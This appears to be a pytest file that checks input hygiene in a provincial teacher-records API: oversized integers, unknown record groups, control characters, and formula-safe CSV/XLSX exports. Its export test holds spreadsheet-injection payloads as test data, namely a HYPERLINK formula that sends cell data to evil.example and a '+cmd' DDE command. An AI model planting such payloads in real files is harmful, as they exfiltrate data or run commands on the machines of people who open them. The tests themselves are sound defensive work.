"""Input hygiene across the provincial API (issue 16 item 8), on SQLite and PostgreSQL: out-of-range integers in
paths, query strings and bodies answer 400/404/422, never 500; an unknown record group is 404; control
characters are refused with a field error; exports are inert in spreadsheets."""

from __future__ import annotations

import csv
import io
import itertools
import json
import re

import pytest
from openpyxl import load_workbook

from tests.factories import GOOD_RECORDS
from tests.provincial.api.test_api import basic, call, new_file, unit_id

_SEQ = itertools.count(620)
HUGE = 2**70  # beyond 64 bits
BIG = 2**40  # a 64-bit integer, beyond the INTEGER id columns


def _operations(app):
    doc = app.test_client().get("/api/openapi.json").json
    for path, ops in doc["paths"].items():
        for method, op in ops.items():
            if method in ("get", "post", "put", "delete", "patch"):
                params = [*ops.get("parameters", []), *op.get("parameters", [])]
                yield path, method, params, op, doc


def _schema(doc, ref_or_schema):
    if "$ref" in ref_or_schema:
        return doc["components"]["schemas"][ref_or_schema["$ref"].rsplit("/", 1)[1]]
    return ref_or_schema


def test_huge_ids_in_every_path_are_not_found(app, tokens):
    seen = 0
    for path, method, params, _op, _doc in _operations(app):
        ints = [p["name"] for p in params if p["in"] == "path" and p["schema"].get("type") == "integer"]
        if not ints:
            continue
        for value in (HUGE, BIG, 2**31, "9" * 5000):
            url = re.sub(r"\{(\w+)\}", lambda m, v=value, ints=ints: str(v) if m.group(1) in ints else "JBXX", path)
            r = call(app, tokens, "p_admin", method.upper(), url, json={})
            assert r.status_code == 404, (method, url[:80], r.status_code, r.json)
            assert r.json["code"] == "not_found"
            seen += 1
    assert seen >= 4 * 14  # every route with an id in its path


def test_huge_integers_in_every_query_and_body_are_client_errors(app, tokens):
    checked = 0
    for path, method, params, op, doc in _operations(app):
        url = re.sub(r"\{(\w+)\}", lambda m: "1" if "id" in m.group(1) else "JBXX", path)
        for p in params:
            if p["in"] == "query" and p["schema"].get("type") == "integer":
                for value in (HUGE, BIG, -1, "1.5"):
                    r = call(app, tokens, "p_admin", method.upper(), f"{url}?{p['name']}={value}")
                    assert 400 <= r.status_code < 500, (method, url, p["name"], value, r.status_code, r.json)
                    checked += 1
        body = op.get("requestBody", {}).get("content", {}).get("application/json", {}).get("schema")
        if not body:
            continue
        props = _schema(doc, body).get("properties", {})
        for name, prop in props.items():
            if _schema(doc, prop).get("type") != "integer":
                continue
            for value, expected in ((HUGE, {400}), (-(2**64), {400}), (BIG, {422, 404}), (1.5, {422})):
                r = call(app, tokens, "p_admin", method.upper(), url, json={name: value})
                assert r.status_code in expected | {403}, (method, url, name, value, r.status_code, r.json)
                checked += 1
    assert checked > 20


def test_body_ids_beyond_the_columns_name_the_field(app, tokens):
    r = call(app, tokens, "s1_info", "POST", "/api/v1/teachers", json={"school_id": BIG, "basic": basic("601")})
    assert r.status_code == 422 and {e["field"] for e in r.json["details"]["errors"]} == {"school_id"}
    r = call(app, tokens, "s1_info", "POST", "/api/v1/teachers", json={"school_id": HUGE, "basic": basic("601")})
    assert r.status_code == 400 and r.json["code"] == "bad_request"
    r = call(app, tokens, "th_info", "POST", "/api/v1/exports", json={"unit_id": 1.5, "reason": "x"})
    assert r.status_code == 422  # not truncated to unit 1
    for bad in ('{"unit_id": NaN, "reason": "x"}', '{"reason": "\\ud800"}', "[" * 100000 + "]" * 100000):
        r = call(app, tokens, "th_info", "POST", "/api/v1/exports", data=bad, content_type="application/json")
        assert r.status_code == 400, (bad[:30], r.json)


def test_an_unknown_record_group_is_not_found(app, tokens):
    tid = new_file(app, tokens, "603")
    school = unit_id(app, tokens, "2144000001")
    for method, url, kw in (
        ("GET", "/api/v1/templates/NOSUCH", {}),
        ("GET", "/api/v1/templates/%E2%80%AE", {}),
        ("PUT", f"/api/v1/teachers/{tid}/groups/NOSUCH", {"json": {"a": 1}}),
        ("POST", f"/api/v1/imports/NOSUCH?school_id={school}&format=csv", {"data": b"x"}),
    ):
        r = call(app, tokens, "s1_info", method, url, **kw)
        assert r.status_code == 404 and r.json["code"] == "not_found", (url, r.json)
    r = call(
        app, tokens, "th_info", "POST", "/api/v1/exports", json={"unit_id": school, "reason": "x", "groups": ["NOSUCH"]}
    )
    assert r.status_code == 422 and r.json["details"]["errors"][0]["field"] == "groups"
    r = call(
        app,
        tokens,
        "s1_info",
        "POST",
        f"/api/v1/teachers/{tid}/change-requests",
        json={"changes": [{"group": "NOSUCH", "field": "XM", "new": "x"}], "reason": "x"},
    )
    assert r.status_code in (409, 422), r.json  # refused (the file is not effective yet, or the group is unknown)


@pytest.mark.parametrize(
    "value",
    ["李\x07明", "李\n明", "\u202eabc", "李\x00明", "李\ud800明", "\x9b李明"],
    ids=["bell", "newline", "bidi-override", "nul", "lone-surrogate", "c1"],
)
def test_control_characters_are_refused_with_a_field_error(app, tokens, value):
    tid = new_file(app, tokens, str(next(_SEQ)))
    r = call(
        app,
        tokens,
        "s1_info",
        "PUT",
        f"/api/v1/teachers/{tid}/groups/LXFS",
        data=json.dumps({**GOOD_RECORDS["LXFS"], "TXDZ": value}),  # ASCII escapes: a lone surrogate travels too
        content_type="application/json",
    )
    assert r.status_code in (400, 422), r.json
    if r.status_code == 422:
        (err,) = r.json["details"]["errors"]
        assert err["field"] == "TXDZ" and ("控制字符" in err["reason_zh"] or "换行" in err["reason_zh"])


def _effective(app, tokens, seq, **over):
    tid = new_file(app, tokens, seq)
    if over:
        b = {**basic(seq), **over}
        assert call(app, tokens, "s1_info", "PUT", f"/api/v1/teachers/{tid}/groups/JBXX", json=b).status_code == 200
    for who, step in (("s1_info", "submit"), ("s1_rev", "review"), ("th_info", "review")):
        r = call(
            app,
            tokens,
            who,
            "POST",
            f"/api/v1/teachers/{tid}/{step}",
            json={"decision": "approve"} if step == "review" else None,
        )
        assert r.status_code == 200, r.json
    return tid


def test_exports_make_formulas_inert(app, tokens):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
    _effective(app, tokens, "607", XM=formula, CYM="+cmd|' /C calc'!A0")
    unit = unit_id(app, tokens, "2144000001")
    r = call(
        app,
        tokens,
        "th_info",
        "POST",
        "/api/v1/exports",
        json={"unit_id": unit, "reason": "核对", "groups": ["JBXX"], "format": "csv"},
    )
    rows = list(csv.reader(io.StringIO(r.data.decode("utf-8-sig"))))
    names = [row[rows[0].index("姓名(XM)")] for row in rows[1:]]
    assert "'" + formula in names and formula not in names
    assert all(not v.startswith(("=", "+", "-", "@")) for row in rows[1:] for v in row)
    r = call(
        app, tokens, "th_info", "POST", "/api/v1/exports", json={"unit_id": unit, "reason": "核对", "groups": ["JBXX"]}
    )
    ws = load_workbook(io.BytesIO(r.data)).worksheets[0]
    header = [c.value for c in ws[1]]
    cells = [row[header.index("姓名(XM)")] for row in ws.iter_rows(min_row=2)]
    (cell,) = [c for c in cells if c.value == formula]
    assert cell.data_type == "s" and cell.quotePrefix  # text, shown as typed, never evaluated
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
